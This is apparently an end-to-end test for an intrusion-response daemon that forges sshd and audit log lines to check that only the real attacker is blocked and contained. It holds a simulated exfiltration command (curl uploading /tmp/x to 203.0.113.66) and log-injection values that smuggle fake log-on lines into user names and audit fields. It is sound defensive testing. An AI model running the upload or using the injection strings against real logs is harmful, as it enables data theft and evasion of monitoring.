#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Forged lines against a real tocsind that may act: nobody innocent is blocked, suspended or
killed, and the one guilty address and account are, among all of it.

usage: forged.py BUILD-FOLDER     as root; makes its own namespaces

Each case is a handful of lines in a followed file, and those whom they try to hit. What stands in
the kernel's sets, in shadow and in the process table at the end is what counts; where a
guardrail has to have refused, its verdict is asked for too.
"""
import dataclasses
import datetime
import json
import os
import pathlib
import shutil
import subprocess
import sys
import time

import kill
from kill import BUILD, ROOT, inside, run, stage, wait_for
from stage import ADMIN, ATTACKER, BYSTANDER, COURT, ROUTER, SPRAYERS

LOG, AUDIT, PLAIN, COPY = kill.LOG, kill.AUDIT, '/var/log/plain.log', '/var/log/copy.log'
FLOOD = 10000
NOISY = SPRAYERS[7]  # who really connects with made-up user names
OFFICE = SPRAYERS[0]  # many people behind one address
MAPPED = SPRAYERS[1]

# name: (uid, what a case tries to have done to it)
PEOPLE = {'magistrate': 3002, 'judge': 3101, 'registrar': 3102, 'usher': 3103, 'archivist': 3104,
          'bailiff': 3105, 'auditor': 3106, 'deputy': 3107, 'svc-backup': 990}
SYSCALL = ('arch=c000003e syscall={call} success=yes exit=3 a0=ffffff9c items=1 ppid=900 pid=901 auid={uid} '
           'uid={uid} gid=100 euid={uid} suid={uid} fsuid={uid} egid=100 sgid=100 fsgid=100 tty=pts0 ses=7 '
           'comm={comm} exe="/usr/bin/cat" key={key}\x1dARCH=x86_64 SYSCALL={name} AUID="{user}" UID="{user}"')
PATH = ('item=0 name={0} inode=7 dev=fe:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'
        '\x1dOUID="root" OGID="root"')
CASE_FILE = '"/srv/cases/AC-2026-014/witness-list.txt"'


@dataclasses.dataclass
class Case:
    name: str
    lines: list  # (file, text)
    addresses: tuple = ()
    accounts: tuple = ()
    verdicts: dict = dataclasses.field(default_factory=dict)  # target: what contain has to have said


SERIAL = iter(range(1000, 10**9))


def when(shift=0.0):
    at = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=shift)
    return at.isoformat(timespec='microseconds')


def sshd(said, shift=0.0):
    return f'{when(shift)} registry sshd[{next(SERIAL)}]: {said}\n'


def takeover(user, address, shift=0.0, failed_for=None):
    """Whole lines: guessed at until one was right."""
    failed = [sshd(f'Failed password for {failed_for or user} from {address} port {50000 + i} ssh2', shift)
              for i in range(6)]
    return ''.join(failed) + sshd(f'Accepted password for {user} from {address} port 50099 ssh2', shift + 0.1)


def named(user):
    """What sshd writes of NOISY, who says that his name is `user`."""
    return ''.join(sshd(f'Failed password for invalid user {user} from {NOISY} port {51000 + i} ssh2')
                   for i in range(6))


def hexed(text):
    return text.encode().hex().upper()


def audit(*records):
    at, serial = f'{time.time():.3f}', next(SERIAL)
    return ''.join(f'node=registry type={kind} msg=audit({at}:{serial}): {rest}\n' for kind, rest in records)


def reads(user, uid, key='"tocsin-case"', comm='"cat"', path=CASE_FILE):
    """The kernel says that this account opened a case file."""
    return audit(('SYSCALL', SYSCALL.format(call=257, name='openat', uid=uid, user=user, key=key, comm=comm)),
                 ('CWD', 'cwd="/home"'), ('PATH', PATH.format(path)), ('EOE', ''))


def sends(user, uid, arguments='a0="curl" a1="-T" a2="/tmp/x" a3="http://203.0.113.66:8080/1"'):
    return audit(('SYSCALL', SYSCALL.format(call=59, name='execve', uid=uid, user=user, key='"tocsin-exec"',
                                            comm='"curl"')),
                 ('EXECVE', f'argc=4 {arguments}'), ('EOE', ''))


def names_with_addresses():
    return [
        Case('a user name that holds an address',
             [(LOG, named(f'clerk from {BYSTANDER} port 22 ssh2'))], (BYSTANDER,)),
        Case('a user name that is a whole line of success',
             [(LOG, named(f'Accepted password for magistrate from {BYSTANDER} port 22 ssh2'))],
             (BYSTANDER,), ('magistrate',)),
        Case('a user name with a line break, as sshd and as rsyslog write it',
             [(LOG, named(f'x\\nAccepted password for magistrate from {BYSTANDER} port 22 ssh2')),
              (LOG, named(f'x#012Accepted password for magistrate from {BYSTANDER} port 22 ssh2'))],
             (BYSTANDER,), ('magistrate',)),
        Case('a user name with NUL, 0x1d, escapes and bidi',
             [(LOG, named(f'\0x\x1d\x1b[31m\u202e from {BYSTANDER} port 22 ssh2\0')),
              (LOG, named(f'y\0 from {BYSTANDER} port 22 ssh2\x1dAUID="magistrate"'))],
             (BYSTANDER,), ('magistrate',)),
        Case('the id of a certificate that holds an address',
             [(LOG, sshd(f'Accepted publickey for magistrate from {ADMIN} port 5 ssh2: ED25519-CERT SHA256:abc '
                         f'ID x from {BYSTANDER} port 22 ssh2 (serial 1) CA ED25519 SHA256:abc'))],
             (BYSTANDER, ADMIN), ('magistrate',)),
        Case('the name that an address claims to have',
             [(LOG, ''.join(sshd('pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= '
                                 f'rhost=x.{BYSTANDER}.example  user=magistrate') for _ in range(6)))],
             (BYSTANDER,), ('magistrate',)),
    ]


def whole_lines():
    """Lines of somebody who can write to the file: of addresses that never talked to us, or that
    may never be blocked."""
    def of(name, address, target=None, verdict=None, shift=0.0):
        return Case(name, [(LOG, takeover('clerk', address, shift))], (target or address,),
                    (), {target or address: verdict} if verdict else {})
    return [
        Case('a source that anybody can write to, of one who is here',
             [(PLAIN, takeover('usher', BYSTANDER)), (AUDIT, reads('usher', 3103)),
              (AUDIT, sends('usher', 3103))], (BYSTANDER,), ('usher',), {BYSTANDER: 'trust'}),
        of('the gateway', ROUTER, verdict='evidence'),
        of('our own address', COURT, verdict='evidence'),
        of('the administrator', ADMIN, verdict='never'),
        of('the administrator, mapped', f'::ffff:{ADMIN}', ADMIN, 'never'),
        of('the administrator, mapped in hex', '::ffff:c000:205', ADMIN, 'never'),
        of('the administrator by NAT64', f'64:ff9b::{ADMIN}', ADMIN),
        of('the administrator by 6to4', '2002:c000:205::1', ADMIN),
        of('a neighbour on our link', '192.0.2.77', verdict='evidence'),
        of('the network', '192.0.2.0/24', ADMIN),
        of('octal', '0306.0063.0144.0024', BYSTANDER),
        of('leading zeros', '198.051.100.020', BYSTANDER),
        of('a number', '3325256724', BYSTANDER),
        of('too few parts', '198.51.25620', BYSTANDER),
        of('a zone after IPv4', f'{BYSTANDER}%eth0', BYSTANDER),
        of('a link-local address with a zone', 'fe80::1%eth0', 'fe80::1'),
        of('a host name', 'registry.court.example', COURT),
        of('the mapped form of an address that is not here', '::ffff:198.51.100.222', '198.51.100.222', 'evidence'),
        of('an office that is not connected', '198.51.100.223', verdict='evidence'),
        of('an hour ago, of one who is here', OFFICE, verdict='stale', shift=-3600),
        of('an hour ahead, of one who is here', MAPPED, verdict='stale', shift=3600),
        Case('JSON that claims to be the journal',
             [(LOG, ''.join('{"_UID":"0","_EXE":"/usr/sbin/sshd","_COMM":"sshd","SYSLOG_IDENTIFIER":"sshd",'
                            f'"__REALTIME_TIMESTAMP":"{int(time.time() * 1e6) + i}","_TRANSPORT":"syslog",'
                            f'"MESSAGE":"{"Accepted" if i == 6 else "Failed"} password for deputy from '
                            f'198.51.100.224 port {52000 + i} ssh2"}}\n' for i in range(7))),
              (AUDIT, reads('deputy', 3107))], ('198.51.100.224',), ('deputy',)),
        Case('failures that anybody can write, then an honest log-on',
             [(PLAIN, ''.join(sshd(f'Failed password for bailiff from {OFFICE} port {53000 + i} ssh2')
                              for i in range(6))),
              (LOG, sshd(f'Accepted password for bailiff from {OFFICE} port 53099 ssh2')),
              (AUDIT, reads('bailiff', 3105)), (AUDIT, sends('bailiff', 3105))], (OFFICE,), ('bailiff',)),
        Case('the same line in two files of one daemon',
             [(LOG, twice := takeover('clerk', '198.51.100.229')), (COPY, twice)], ('198.51.100.229',), (),
             {'198.51.100.229': 'evidence'}),
    ]


def accounts():
    inner = f'key="tocsin-case" AUID="bailiff" from {BYSTANDER}'
    return [
        Case('root reads cases', [(AUDIT, reads('root', 0))], (), ('root',)),
        Case('a guessed log-on as root, who reads', [(LOG, takeover('root', '198.51.100.225')),
                                                     (AUDIT, reads('root', 1000))], (), ('root',)),
        Case('a service account', [(LOG, takeover('svc-backup', '198.51.100.226')),
                                   (AUDIT, reads('svc-backup', 1990)), (AUDIT, sends('svc-backup', 1990))],
             (), ('svc-backup',)),
        Case('an account that is not here', [(LOG, takeover('ghost', '198.51.100.227')),
                                             (AUDIT, reads('ghost', 4999))], (), ('ghost',)),
        Case('an account on the never list', [(LOG, takeover('registrar', '198.51.100.228')),
                                              (AUDIT, reads('registrar', 3102)), (AUDIT, sends('registrar', 3102))],
             (), ('registrar',), {'registrar': 'never'}),
        Case('somebody whose cases these are', [(AUDIT, reads('judge', 3101)), (AUDIT, sends('judge', 3101))],
             (), ('judge',)),
        Case('the key of cases in the text of a command',
             [(AUDIT, reads('archivist', 3104, key='(null)', comm=hexed(f'x {inner}'))),
              (AUDIT, sends('archivist', 3104, f'a0={hexed("curl")} a1={hexed(inner)} a2={hexed(CASE_FILE)}')),
              (AUDIT, reads('archivist', 3104, key='(null)',
                            path=hexed(f'/tmp/x" nametype=NORMAL\x1dAUID="bailiff" {inner}')))],
             (BYSTANDER,), ('archivist', 'bailiff')),
        Case('a bad guesser of another\'s password who then logs on as himself',
             [(LOG, takeover('clerk', ATTACKER, failed_for='auditor')), (AUDIT, reads('auditor', 3106)),
              (AUDIT, sends('auditor', 3106))], (), ('auditor',)),
    ]


def flood():
    lines = []
    for i in range(FLOOD):
        address = f'100.{64 + i // 65536}.{i // 256 % 256}.{i % 256}'
        lines.append(f'{when()} registry sshd[{i}]: Failed password for clerk from {address} port 40000 ssh2\n')
    lines += [takeover('clerk', f'100.99.{i // 250}.{1 + i % 250}') for i in range(500)]
    plain = [takeover('clerk', f'100.98.{i // 250}.{1 + i % 250}') for i in range(200)]
    return Case(f'{FLOOD + 700} forged addresses', [(PLAIN, ''.join(plain)), (LOG, ''.join(lines))])


class Court:
    """tocsind, its followed files, and everybody's processes and connections."""

    def __init__(self, scene):
        self.scene = scene
        self.processes = {}
        self.daemon = None

    def settle(self):
        for name, uid in PEOPLE.items():
            if name != 'magistrate':
                run('useradd', '-M', '-u', str(uid), '-s', '/bin/bash', name)
                run('chpasswd', input=f'{name}:not guessed {uid}\n')
            self.processes[name] = self.live(uid)
        self.processes['root'] = self.live(0)
        self.processes['clerk'] = self.live(3001)
        self.shadow = self.states()
        for address in (ATTACKER, BYSTANDER, OFFICE, MAPPED, NOISY):
            code = ('import socket,time\n'
                    f's=socket.create_connection(("{COURT}",22),3,("{address}",0))\ntime.sleep(600)\n')
            self.scene.start(f'talks-{address}', '/usr/bin/python3', '-c', code, host='outside')
        wait_for(lambda: run('ss', '-tn').count('ESTAB') >= 5, 'five connections')

    def live(self, uid):
        return subprocess.Popen(['setpriv', '--reuid', str(uid), '--regid', str(uid), '--clear-groups',
                                 'sleep', '600'])

    def states(self):
        return {l.split(':')[0]: l for l in pathlib.Path('/etc/shadow').read_text(encoding='utf-8').splitlines()}

    def start(self):
        for path in (LOG, AUDIT, PLAIN, COPY):
            pathlib.Path(path).parent.mkdir(exist_ok=True)
            pathlib.Path(path).write_text('', encoding='ascii')
        self.daemon = self.scene.start('tocsind', str(BUILD / 'tocsind'), '--foreground')
        wait_for(lambda: self.ask('status') is not None, 'tocsind', 30)

    ask = kill.Run.ask

    def actions(self):
        return (self.ask('actions') or {}).get('actions', [])

    def blocked(self):
        """Every element of the sets that block."""
        found = []
        for item in json.loads(run('nft', '-j', 'list', 'ruleset'))['nftables']:
            rows = item.get('set', {})
            if rows.get('name', '').startswith(('b4_', 'b6_')):
                for element in rows.get('elem', []):
                    element = element.get('elem', element) if isinstance(element, dict) else element
                    found.append(str(element.get('val') if isinstance(element, dict) else element))
        return found

    def dealt_with(self, sentinel):
        """A log-on that is written last has been decided on: so has all before it."""
        began = time.monotonic()
        kill.append(LOG, takeover('sentinel', sentinel))
        wait_for(lambda: any(target_of(a) == sentinel and a.get('verdict') for a in self.actions()),
                 f'a verdict on {sentinel}', 45)
        return time.monotonic() - began

    def guilty(self):
        kill.step_failures()
        kill.step_success()
        kill.step_read()
        kill.step_send()


def target_of(action):
    return action.get('address') or action.get('account') or action.get('target', '')


def judge_case(court, case, sets, actions, now):
    faults = []
    for address in case.addresses:
        if address in sets:
            faults.append(f'{address} is in a set of the kernel')
        if any(a.get('verdict') == 'allowed' and target_of(a) == address for a in actions):
            faults.append(f'{address} was allowed to be blocked')
    for account in case.accounts:
        if now.get(account) != court.shadow.get(account):
            faults.append(f'{account} was suspended')
        process = court.processes.get(account)
        if process is not None and process.poll() is not None:
            faults.append(f'the process of {account} was killed')
        if any(a.get('verdict') == 'allowed' and target_of(a) == account for a in actions):
            faults.append(f'{account} was allowed to be contained')
    for target, verdict in case.verdicts.items():
        said = {a.get('verdict') for a in actions if target_of(a) == target}
        if verdict not in said:
            faults.append(f'{target}: verdict {verdict} expected, {sorted(map(str, said)) or "nothing"} decided')
    return faults


def judge(court, cases):
    sets, actions, now = court.blocked(), court.actions(), court.states()
    failed = 0
    for case in cases:
        faults = judge_case(court, case, sets, actions, now)
        failed += bool(faults)
        print(f'{"FAILED" if faults else "ok"}  {case.name}', *(f'\n  {f}' for f in faults), flush=True)
    allowed = sorted({(a['kind'], target_of(a)) for a in actions if a.get('verdict') == 'allowed'})
    wanted = [('block-address', ATTACKER), ('end-session', 'clerk'), ('suspend-account', 'clerk')]
    if allowed != wanted or court.processes['clerk'].poll() is None or sets != [ATTACKER]:
        failed += 1
        print(f'FAILED  the guilty one, and nobody else\n  allowed {allowed}\n  blocked {sets}')
    else:
        print('ok  the guilty one, and nobody else')
    killed = [l for l in (court.scene.folder / 'tocsind.out').read_text(encoding='utf-8').splitlines()
              if 'role.ended' in l]
    if killed:
        failed += 1
        print('FAILED  all processes went on', *killed, sep='\n  ')
    verify = subprocess.run([str(BUILD / 'tocsin'), 'evidence', 'verify'], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, check=False)
    if verify.returncode != 0:
        failed += 1
        print('FAILED  the ledger verifies', verify.stdout)
    return failed


def configure():
    kill.configure()
    path = pathlib.Path('/etc/tocsin/tocsin.conf')
    text = path.read_text(encoding='utf-8')
    text = text.replace('journal = no', f'file = plain T0 {PLAIN}\nfile = copy {COPY}\njournal = no')
    path.write_text(text + 'never = account:registrar\n', encoding='utf-8')


def main():
    folder = pathlib.Path(BUILD) / 'e2e-forged'
    if os.geteuid() != 0 or stage.missing():
        print('forged.py: needs root and the packages of ./dev deps demo')
        return 77
    if os.environ.get('TOCSIN_STAGE') is None:
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    if os.environ.get('TOCSIN_STAGE') != 'inner':
        return stage.enter(folder, [os.path.abspath(__file__), *sys.argv[1:]], audit=False)
    scene = stage.Stage(folder)
    scene.build(services=False)
    configure()
    kill.witness(scene)
    court = Court(scene)
    court.settle()
    court.start()
    cases = names_with_addresses() + whole_lines() + accounts()  # the flood comes in the middle
    half = len(cases) // 2
    cases = [*cases[:half], flood(), *cases[half:]]
    for number, case in enumerate(cases):
        for path, text in case.lines:
            kill.append(path, text)
        if number == half:
            court.guilty()  # right after the flood: it must not hide the one real case
            began = time.monotonic()
            wait_for(lambda: ATTACKER in court.blocked(), 'the guilty one to be blocked', 45, fatal=False)
            print(f'behind {FLOOD} forged lines the guilty one is blocked after {time.monotonic() - began:.2f} s')
    print(f'all is decided after {court.dealt_with("198.51.100.250"):.2f} s')
    time.sleep(1)
    failed = judge(court, cases)
    scene.end()
    return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
